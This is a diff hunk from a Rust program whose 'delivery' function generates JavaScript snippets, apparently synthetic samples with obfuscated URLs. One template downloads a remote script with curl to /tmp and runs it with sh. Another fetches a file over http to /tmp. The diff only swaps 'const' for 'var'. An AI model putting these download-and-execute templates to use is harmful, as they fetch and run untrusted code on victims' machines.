@@ -173,14 +173,14 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
             let url = truth.url(dice, &["", ".sh", ".bin"]);
             let url = hide(dice, &url, before);
             format!(
-                "const {{ exec }} = require('child_process');\nconst {var} = {url};\nexec('curl -fsSL ' + {var} + ' -o /tmp/{file} && sh /tmp/{file}', (err, out) => {{ return out; }});\n"
+                "var {{ exec }} = require('child_process');\nvar {var} = {url};\nexec('curl -fsSL ' + {var} + ' -o /tmp/{file} && sh /tmp/{file}', (err, out) => {{ return out; }});\n"
             )
         }
         9 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
             format!(
-                "const fs = require('fs');\nconst http = require('http');\nhttp.get({url}, function (res) {{\n  const out = fs.createWriteStream('/tmp/{file}');\n  res.pipe(out);\n}});\n"
+                "var fs = require('fs');\nvar http = require('http');\nhttp.get({url}, function (res) {{\n  const out = fs.createWriteStream('/tmp/{file}');\n  res.pipe(out);\n}});\n"
             )
         }
         10 => {
